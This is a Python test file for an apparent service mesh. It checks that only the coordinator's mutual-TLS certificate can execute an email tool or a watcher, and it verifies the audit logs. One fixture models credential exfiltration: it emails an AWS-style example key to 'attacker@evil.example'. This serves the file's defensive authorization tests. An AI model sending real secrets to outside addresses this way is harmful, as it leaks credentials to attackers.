"""Per-service identities on the real mesh parts: the email tool (real gRPC, mutual TLS, a real
SMTP sink, the real broker) called directly with the coordinator's certificate, another service's,
and none (issue 17, decision 0680)."""

from __future__ import annotations

import grpc
import pytest
from structlog.testing import capture_logs

from lammesh.dev.certs import CertSet, make_certs
from lammesh.dev.localkafka import free_port
from lammesh.dev.smtpsink import SmtpSink, read_maildir
from lammesh.grpc.client import channel
from lammesh.settings import Settings
from lammesh.v1 import step_pb2, step_pb2_grpc
from tests.support.mesh import running
from tests.support.services import email as email_bootstrap

pytestmark = pytest.mark.kafka


@pytest.fixture(scope="module")
def certs(tmp_path_factory: pytest.TempPathFactory) -> CertSet:
    return make_certs(tmp_path_factory.mktemp("certs"), services=("email", "coordinator", "gateway", "pii"))


def as_service(certs: CertSet, service: str) -> Settings:
    return Settings(
        grpc_tls_ca=certs.ca, grpc_tls_cert=certs.service_cert(service), grpc_tls_key=certs.service_key(service)
    )


def execute(task_id: str) -> step_pb2.ExecuteRequest:
    command = step_pb2.StepCommand(task_id=task_id, step_id="send", capability="email", attempt=1)
    command.input.update({"to": ["attacker@evil.example"], "subject": "keys", "body": "AKIAIOSFODNN7EXAMPLE"})
    return step_pb2.ExecuteRequest(command=command)


async def call(target: str, settings: Settings, task_id: str) -> step_pb2.ExecuteResponse:
    async with channel(target, settings) as ch:
        return await step_pb2_grpc.StepServiceStub(ch).Execute(execute(task_id), timeout=10)


async def test_only_the_coordinators_certificate_may_execute_the_email_tool(settings, tmp_path, certs) -> None:
    tool = settings.model_copy(
        update={
            "service_name": "email",
            "grpc_host": "127.0.0.1",
            "grpc_port": 0,
            "state_dir": tmp_path / "state",
            "maildir": tmp_path / "maildir",
            "smtp_port": free_port(),
            "grpc_mtls": True,
            "grpc_tls_ca": certs.ca,
            "grpc_tls_cert": certs.service_cert("email"),
            "grpc_tls_key": certs.service_key("email"),
        }
    )
    sink = SmtpSink(tool.maildir, port=tool.smtp_port)
    await sink.start()
    runtime = email_bootstrap(tool)
    try:
        async with running(runtime):
            target = f"localhost:{runtime.grpc.port}"
            with capture_logs() as logs:
                with pytest.raises(grpc.aio.AioRpcError) as denied:
                    await call(target, as_service(certs, "gateway"), "t-gateway")
                # the shared certificate of before (no identity) is refused too
                with pytest.raises(grpc.aio.AioRpcError) as anonymous:
                    await call(
                        target,
                        Settings(grpc_tls_ca=certs.ca, grpc_tls_cert=certs.server_cert, grpc_tls_key=certs.server_key),
                        "t-shared",
                    )
                with pytest.raises(grpc.aio.AioRpcError) as no_cert:
                    await call(target, Settings(grpc_tls_ca=certs.ca), "t-none")
                ran = await call(target, as_service(certs, "coordinator"), "t-coordinator")
    finally:
        await sink.stop()

    assert denied.value.code() == grpc.StatusCode.PERMISSION_DENIED
    assert denied.value.details() == (
        "/lammesh.v1.StepService/Execute: gateway may not call this method; allowed callers: coordinator"
    )
    assert anonymous.value.code() == grpc.StatusCode.PERMISSION_DENIED
    assert "without a lammesh identity" in anonymous.value.details()
    assert no_cert.value.code() == grpc.StatusCode.UNAVAILABLE  # the TLS handshake fails: no call reaches the server
    assert ran.result.status == step_pb2.STEP_STATUS_SUCCEEDED, ran.result.error

    [sent] = read_maildir(tool.maildir)  # only the coordinator's call sent mail
    assert sent["Subject"] == "keys"

    audited = [
        (e["caller"], e["outcome"], e["task_id"], e["idempotency_key"], e["via"]) for e in logs if e["event"] == "audit"
    ]
    assert audited == [
        ("gateway", "denied", "t-gateway", f"t-gateway/send/{step_pb2.STEP_ACTION_EXECUTE}", "grpc"),
        ("unknown", "denied", "t-shared", f"t-shared/send/{step_pb2.STEP_ACTION_EXECUTE}", "grpc"),
        ("coordinator", "succeeded", "t-coordinator", f"t-coordinator/send/{step_pb2.STEP_ACTION_EXECUTE}", "grpc"),
    ]


async def test_the_launched_mutual_tls_mesh_runs_a_watched_workflow_with_one_identity_per_service(
    settings, tmp_path
) -> None:
    """`lammesh up --certs` (lammesh.up.Mesh): every process its own certificate; the coordinator's
    watcher checks pass the policy, a workflow completes through the gateway; the gateway's
    identity still may not execute a step."""
    import asyncio
    from pathlib import Path

    from lammesh.structs import to_struct
    from lammesh.up import Mesh
    from lammesh.v1 import task_pb2, task_pb2_grpc
    from tests.support.mesh import wait_status

    services = ["gateway", "coordinator", "noop", "loop", "policy"]
    certs = make_certs(tmp_path / "certs", services=tuple(services))
    mesh = Mesh(
        run_dir=tmp_path / "run",
        services=services,
        kafka_bootstrap=settings.kafka_bootstrap,
        gateway_address=f"127.0.0.1:{free_port()}",
        smtp_port=free_port(),
        certs=certs.folder,
        extra_env={
            "LAMMESH_TOPIC_PREFIX": settings.topic_prefix,
            "LAMMESH_STATE_DIR": str(tmp_path / "state"),
            "LAMMESH_TOPIC_PARTITIONS": "3",
            "LAMMESH_DRAIN_TIMEOUT_S": "5",
            "LAMMESH_WORKFLOWS_DIR": str(Path(settings.workflows_dir).resolve()),
        },
    )
    mesh.start_timeout_s = 120
    await asyncio.to_thread(mesh.start)
    try:
        client = mesh.client_settings()  # the mesh's client certificate: a user of the gateway, no service identity
        async with channel(mesh.gateway_address, client) as ch:
            reply = await task_pb2_grpc.TaskServiceStub(ch).SubmitTask(
                task_pb2.SubmitTaskRequest(workflow="noop_saga_watched", input=to_struct({"payload": "hello"})),
                timeout=10,
            )
            task = await wait_status(
                ch,
                reply.task.task_id,
                {task_pb2.TASK_STATUS_COMPLETED, task_pb2.TASK_STATUS_FAILED, task_pb2.TASK_STATUS_COMPENSATED},
                timeout=90,
            )
        assert task.status == task_pb2.TASK_STATUS_COMPLETED, task.error
        noop = next(p for p in mesh.processes if p.name == "noop")
        with pytest.raises(grpc.aio.AioRpcError) as denied:
            async with channel(noop.address, as_service(certs, "gateway")) as ch:
                command = step_pb2.StepCommand(task_id="direct", step_id="s1", capability="noop")
                await step_pb2_grpc.StepServiceStub(ch).Execute(step_pb2.ExecuteRequest(command=command), timeout=10)
        assert denied.value.code() == grpc.StatusCode.PERMISSION_DENIED
    finally:
        await asyncio.to_thread(mesh.stop)
    import json

    audited = [
        event
        for line in (mesh.logs_dir / "noop.log").read_text().splitlines()
        if line.startswith("{") and (event := json.loads(line)).get("event") == "audit"
    ]
    steps = [e for e in audited if e["task_id"] == task.task_id]  # a redelivery would add a "replayed" one
    assert {e["step_id"] for e in steps if e["outcome"] == "succeeded"} == {f"s{i}" for i in range(1, 6)}
    assert {(e["caller"], e["via"]) for e in steps} == {("coordinator", "kafka")}
    assert all(e["idempotency_key"] == f"{task.task_id}/{e['step_id']}/{step_pb2.STEP_ACTION_EXECUTE}" for e in steps)
    assert [(e["caller"], e["via"], e["outcome"]) for e in audited if e["task_id"] == "direct"] == [
        ("gateway", "grpc", "denied")
    ]


async def test_a_watcher_answers_the_coordinator_and_the_gateway_and_refuses_a_tool(tmp_path, certs) -> None:
    from lammesh.v1 import watcher_pb2, watcher_pb2_grpc
    from lammesh_services.watchers.pii.main import bootstrap as pii

    watcher = Settings(
        service_name="pii",
        grpc_host="127.0.0.1",
        grpc_port=0,
        metrics_port=0,
        grpc_mtls=True,
        grpc_tls_ca=certs.ca,
        grpc_tls_cert=certs.service_cert("pii"),
        grpc_tls_key=certs.service_key("pii"),
    )
    runtime = pii(watcher)
    check = watcher_pb2.CheckRequest(task_id="t-check", step_id="send", stage=watcher_pb2.CHECK_STAGE_INPUT)
    check.content.update({"body": "Thanks for the meeting."})

    async def call(service: str) -> watcher_pb2.CheckResponse:
        async with channel(f"localhost:{runtime.grpc.port}", as_service(certs, service)) as ch:
            return await watcher_pb2_grpc.WatcherServiceStub(ch).Check(check, timeout=10)

    async with running(runtime):
        with capture_logs() as logs:
            assert (await call("coordinator")).verdict == watcher_pb2.VERDICT_ALLOW
            assert (await call("gateway")).verdict == watcher_pb2.VERDICT_ALLOW
            with pytest.raises(grpc.aio.AioRpcError) as denied:
                await call("email")
    assert denied.value.code() == grpc.StatusCode.PERMISSION_DENIED
    assert "email may not call this method; allowed callers: coordinator, gateway" in denied.value.details()
    assert [(e["caller"], e["outcome"], e["task_id"]) for e in logs if e["event"] == "audit"] == [
        ("email", "denied", "t-check")
    ]
